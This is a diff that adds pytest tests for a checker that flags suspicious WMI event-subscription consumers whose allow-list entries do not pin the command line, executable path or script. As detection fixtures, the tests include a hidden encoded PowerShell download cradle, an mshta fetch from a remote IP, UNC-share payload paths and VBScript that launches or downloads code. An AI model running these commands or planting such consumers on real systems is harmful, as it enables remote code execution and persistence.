@@ -275,3 +275,111 @@ def test_unreadable_namespaces_are_never_compliant():
     assert [f["id"] for f in decision.findings] == ["namespace_unreadable"]
     malicious = scm("CommandLineEventConsumer", command_line_template="cmd /c calc")
     assert run({**malicious, "namespace_errors": [denied]}).status == "drift"
+
+
+# --- an allow-list entry that does not pin what the consumer runs ------------------------------------------------
+
+CRADLE = "powershell.exe -NoP -W Hidden -Enc " + encoded("IEX (New-Object Net.WebClient).DownloadString('http://x/a')")
+SUSPICIOUS_COMMAND_LINES = [
+    CRADLE,
+    "mshta.exe http://198.51.100.7/a.hta",
+    "C:\\Users\\Public\\run.exe",
+    "\\\\fileserver\\share\\payload.exe",
+]
+
+
+def one_consumer(consumer_class="CommandLineEventConsumer", **fields):
+    return {
+        "filters": [{"namespace": SUB, "name": "Nightly", "query": "SELECT * FROM __TimerEvent"}],
+        "consumers": [{"namespace": SUB, "name": "Backup", "class": consumer_class, **fields}],
+        "bindings": [{"namespace": SUB, "filter": "Nightly", "consumer": "Backup", "consumer_class": consumer_class}],
+    }
+
+
+@pytest.mark.parametrize("command_line", SUSPICIOUS_COMMAND_LINES)
+def test_an_allow_list_entry_without_command_line_does_not_admit_a_suspicious_command_line(command_line):
+    result = one_consumer(command_line_template=command_line)
+    entry = {"consumer": "Backup", "consumer_class": "CommandLineEventConsumer", "description": "nightly backup"}
+    decision = run(result, allowed=[entry])
+    assert decision.status == "drift"
+    (subscription,) = decision.result["subscriptions"]
+    assert subscription["classification"] == "suspicious" and subscription["known_as"] is None
+    reason = subscription["reasons"][0]
+    assert reason["id"] == "allow_list_unpinned" and reason["severity"] == "high"
+    assert "nightly backup" in reason["message"] and "command_line" in reason["message"]
+    (finding,) = decision.findings
+    assert finding["id"] == "suspicious_event_consumer" and "does not pin its command line" in finding["message"]
+    # The same entry pinning exactly that command line admits it: someone reviewed what it runs.
+    pinned = run(result, allowed=[{**entry, "command_line": "  " + command_line.upper() + " "}])
+    assert pinned.status == "compliant"
+    assert pinned.result["subscriptions"][0]["classification"] == "allowed"
+    # An edited command line no longer matches the pinned entry.
+    edited = run(
+        one_consumer(command_line_template=command_line + " x"), allowed=[{**entry, "command_line": command_line}]
+    )
+    assert edited.status == "drift"
+
+
+def test_an_unpinned_entry_still_admits_a_harmless_command_line():
+    result = one_consumer(command_line_template="C:\\Program Files\\Backup\\run.exe --nightly")
+    decision = run(result, allowed=[{"consumer": "Backup", "consumer_class": "CommandLineEventConsumer"}])
+    assert decision.status == "compliant"
+
+
+def test_a_pinned_command_line_does_not_pin_the_executable_path():
+    result = one_consumer(command_line_template="run.exe --nightly", executable_path="C:\\Users\\Public\\run.exe")
+    entry = {"consumer": "Backup", "consumer_class": "CommandLineEventConsumer", "command_line": "run.exe --nightly"}
+    decision = run(result, allowed=[entry])
+    assert decision.status == "drift"
+    reason = decision.result["subscriptions"][0]["reasons"][0]
+    assert reason["id"] == "allow_list_unpinned" and "executable path" in reason["message"]
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        'Set sh = CreateObject("WScript.Shell")\nsh.Run "C:\\ProgramData\\svc\\upd.exe", 0',
+        'Set x = CreateObject("MSXML2.XMLHTTP")\nx.Open "GET", "http://x/a"',
+    ],
+)
+def test_an_allow_listed_script_consumer_whose_script_is_suspicious_stays_suspicious(script):
+    result = one_consumer("ActiveScriptEventConsumer", script_text=script, scripting_engine="VBScript")
+    entry = {"consumer": "Backup", "consumer_class": "ActiveScriptEventConsumer"}
+    decision = run(result, allowed=[entry])
+    assert decision.status == "drift"
+    reason = decision.result["subscriptions"][0]["reasons"][0]
+    assert reason["id"] == "allow_list_unpinned" and "script" in reason["message"]
+    harmless = run(
+        one_consumer("ActiveScriptEventConsumer", script_text="x = 1", scripting_engine="VBScript"), allowed=[entry]
+    )
+    assert harmless.status == "compliant"
+
+
+def test_the_builtin_list_obeys_the_same_rule():
+    # The built-in BVT consumer pins its command line; an executable path an attacker points at a share does not
+    # make it built-in.
+    bvt = {
+        "filters": [{"namespace": SUB, "name": "BVTFilter", "query": "SELECT * FROM __InstanceModificationEvent"}],
+        "consumers": [
+            {
+                "namespace": SUB,
+                "name": "BVTConsumer",
+                "class": "CommandLineEventConsumer",
+                "command_line_template": "cscript KernCap.vbs",
+                "executable_path": "\\\\198.51.100.7\\share\\kernrate.exe",
+            }
+        ],
+        "bindings": [
+            {
+                "namespace": SUB,
+                "filter": "BVTFilter",
+                "consumer": "BVTConsumer",
+                "consumer_class": "CommandLineEventConsumer",
+            }
+        ],
+    }
+    decision = run(bvt, facts=FACTS_2003)
+    assert decision.result["subscriptions"][0]["classification"] == "suspicious"
+    assert decision.result["subscriptions"][0]["reasons"][0]["message"].startswith("The built-in entry")
+    bvt["consumers"][0]["executable_path"] = "C:\\tools\\kernrate\\kernrate.exe"
+    assert run(bvt, facts=FACTS_2003).result["subscriptions"][0]["classification"] == "builtin"
